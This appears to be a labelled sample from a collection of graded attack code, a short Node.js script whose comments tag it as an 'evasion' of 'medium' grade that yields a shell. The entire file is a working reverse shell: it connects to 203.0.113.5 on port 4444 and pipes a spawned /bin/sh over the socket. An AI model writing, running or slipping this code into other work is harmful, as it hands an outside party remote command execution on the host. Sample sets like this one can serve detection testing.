// evasion: a reverse shell over net.connect
// grade: medium; does: shell
const net = require('net');
const c = net.connect(4444, '203.0.113.5', () => {
  const sh = require('child_process').spawn('/bin/sh', []);
  c.pipe(sh.stdin); sh.stdout.pipe(c);
});
